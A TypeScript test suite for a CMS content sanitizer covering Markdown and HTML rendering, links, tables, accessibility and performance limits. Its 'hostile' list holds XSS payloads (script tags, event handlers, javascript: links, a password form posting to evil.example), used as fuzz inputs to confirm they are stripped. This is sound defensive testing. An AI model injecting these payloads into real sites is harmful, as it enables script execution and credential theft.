import { expect } from 'chai'
import * as fc from 'fast-check'
import { safeHtml } from '../../src/core/sanitize'

const cms = 'https://cms.example'

const shown = (source: string, origin = cms) => {
  const box = document.createElement('div')
  box.innerHTML = String(safeHtml(source, origin)?.__html)
  return box
}

describe('Content of the CMS', () => {
  it('keeps what a text needs, from HTML and from Markdown (NWS-02)', () => {
    expect(shown('<p>Hola <strong>mar</strong></p><ul><li>uno</li></ul>').innerHTML).to.equal(
      '<p>Hola <strong>mar</strong></p><ul><li>uno</li></ul>',
    )
    const markdown = shown('## Obra\n\nPiso **doce** y [más](https://example.co)\n\n- uno\n- dos')
    expect(markdown.querySelector('h2')?.textContent).to.equal('Obra')
    expect([...markdown.querySelectorAll('li')].map((item) => item.textContent)).to.deep.equal(['uno', 'dos'])
  })

  it('links open in a new tab without opener, pictures load lazily (NWS-02)', () => {
    const link = shown('<a href="https://example.co" target="_self" onclick="x()">ver</a>').querySelector('a')
    expect([link?.target, link?.rel, link?.hasAttribute('onclick')]).to.deep.equal([
      '_blank',
      'noopener noreferrer',
      false,
    ])
    expect(shown('<img src="https://example.co/a.jpg">').querySelector('img')?.loading).to.equal('lazy')
  })

  it('a Markdown table is a table; a line with a bar in it is not (NWS-02)', () => {
    const table = shown('Antes\n\n| Zona | Consumo |\n| --- | :-: |\n| Lobby | **100 %** |\n| Piscina | |\n\nDespués')
    const cells = [...table.querySelectorAll('tr')].map((row) => [...row.children].map((cell) => cell.outerHTML))
    expect(cells).to.deep.equal([
      ['<th>Zona</th>', '<th>Consumo</th>'],
      ['<td>Lobby</td>', '<td><strong>100 %</strong></td>'],
      ['<td>Piscina</td>', '<td></td>'],
    ])
    expect(table.textContent).to.equal('AntesZonaConsumoLobby100 %PiscinaDespués')
    expect(shown('Lobby | Piscina\nabiertos').querySelector('table')).to.equal(null)
    expect(shown('Uno\n---').querySelector('table')).to.equal(null)
  })

  it('the headings of a bulletin stand below its title (A11-01, NWS-02)', () => {
    const levels = (source: string) =>
      [...shown(source).querySelectorAll('h1, h2, h3, h4')].map((heading) => heading.ariaLevel ?? heading.nodeName)
    expect(levels('<h1>a</h1><h2 aria-level="1">b</h2><h3>c</h3><h4>d</h4>')).to.deep.equal(['3', '3', 'H3', 'H4'])
  })

  it('a picture without a description is not read out by its address; a description stays (A11-01, NWS-02)', () => {
    const pictures = [...shown('<img src="/a.jpg"><img src="/b.jpg" alt="La torre">').querySelectorAll('img')]
    expect(pictures.map((picture) => picture.getAttribute('alt'))).to.deep.equal(['', 'La torre'])
  })

  it('relative pictures and links are those of the content backend, not of the page (NWS-02, API-02)', () => {
    const addresses = (source: string, origin?: string) =>
      [...shown(source, origin).querySelectorAll('img, a')].map(
        (it) => it.getAttribute('src') ?? it.getAttribute('href'),
      )
    const source =
      '![](/uploads/x.jpg)\n\n[plano](uploads/plano.pdf)\n\n[otra](//cdn.example/a) [correo](mailto:a@b.example)'
    const rest = ['https://cdn.example/a', 'mailto:a@b.example']
    expect(addresses(source)).to.deep.equal([`${cms}/uploads/x.jpg`, `${cms}/uploads/plano.pdf`, ...rest])
    expect(addresses(source, 'https://other.example').slice(0, 2)).to.deep.equal([
      'https://other.example/uploads/x.jpg',
      'https://other.example/uploads/plano.pdf',
    ])
    const html = '<img src="/a.png" srcset="/b.png 2x"><img src="data:image/png;base64,AA=="><a href="//[">x</a>'
    expect(addresses(html)).to.deep.equal([`${cms}/a.png`, 'data:image/png;base64,AA==', null])
    expect(shown(html).querySelector('[srcset]')).to.equal(null)
  })

  const hostile = [
    '<script>window.hacked = 1</script>',
    '<img src=x onerror="window.hacked = 1">',
    '<a href="javascript:window.hacked = 1">a</a>',
    '[a](javascript:window.hacked=1)',
    '<svg onload="window.hacked = 1"></svg>',
    '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    '<form action="https://evil.example"><input name=password></form>',
    '<style>* { display: none }</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<math><mi xlink:href="data:x,<script>window.hacked=1</script>">',
    '<a href="vbscript:msgbox(1)">b</a>',
  ]

  it('no script runs, no link is dangerous and nothing can be laid over the page (NWS-02)', () => {
    const pieces = fc.array(fc.oneof(fc.constantFrom(...hostile), fc.string()), { maxLength: 6 })
    fc.assert(
      fc.property(pieces, (parts) => {
        const box = shown(parts.join('\n'))
        document.body.append(box)
        const bad = box.querySelector('script, iframe, form, input, style, [style], [onerror], [onload], [onclick]')
        const links = [...box.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '')
        box.remove()
        return (
          bad === null && links.every((href) => !/^\s*(javascript|vbscript|data):/i.test(href)) && !('hacked' in window)
        )
      }),
      { numRuns: 200 },
    )
  })

  it('shows what GitHub Markdown adds: struck words, bare addresses, lists to tick, line breaks inside a list (NWS-02)', () => {
    const text = shown(
      '~~ayer~~ hoy en https://example.co/x\n\n- [x] lobby\n- [ ] piscina\n\n1. uno\n\n   sigue\n2. dos',
    )
    expect(text.querySelector('del')?.textContent).to.equal('ayer')
    expect(text.querySelector('a')?.getAttribute('href')).to.equal('https://example.co/x')
    expect([...text.querySelectorAll('ul li')].map((item) => item.textContent)).to.deep.equal(['☑ lobby', '☐ piscina'])
    expect([...text.querySelectorAll('ol li')].map((item) => item.textContent)).to.deep.equal(['unosigue', 'dos'])
  })

  it('keeps a Markdown table of any length, and a block of code as it was typed (NWS-02)', () => {
    const rows = Array.from({ length: 300 }, (_, row) => `| Piso ${row} | ${row} % |`).join('\n')
    expect(shown(`| Zona | Avance |\n| --- | --- |\n${rows}`).querySelectorAll('tbody tr')).to.have.length(300)
    expect(shown('```\n<b>\n\n  a\n</b>\n```').querySelector('pre')?.textContent).to.equal('<b>\n\n  a\n</b>\n')
  })

  it('shows as it was typed what cannot be read, such as thousands of nested quotes (NWS-02)', () => {
    const nested = `${'> '.repeat(9_000)}**a**`
    expect(shown(nested).textContent).to.equal(nested)
  })

  // Each grew with the square of its length, or broke the call stack, in the renderers of Markdown; the runner's time limit ends the test.
  for (const piece of [
    '![',
    '[',
    '`',
    '*',
    'a*',
    'a_',
    '+ ',
    '1. ',
    '> ',
    '![](<',
    '\n\n[',
    '- a\n\n',
    '<p ',
    '<div>',
    '<a>',
  ])
    it(`takes 20,000 characters of ${JSON.stringify(piece)} without freezing the page (NWS-02)`, () => {
      const text = piece.repeat(20_000 / piece.length)
      expect(shown(text).querySelector('script')).to.equal(null)
    })

  it('five megabytes are cut (NWS-02)', () => {
    expect(shown('palabra '.repeat(700_000)).textContent?.length).to.be.lessThan(20_001)
  })
})
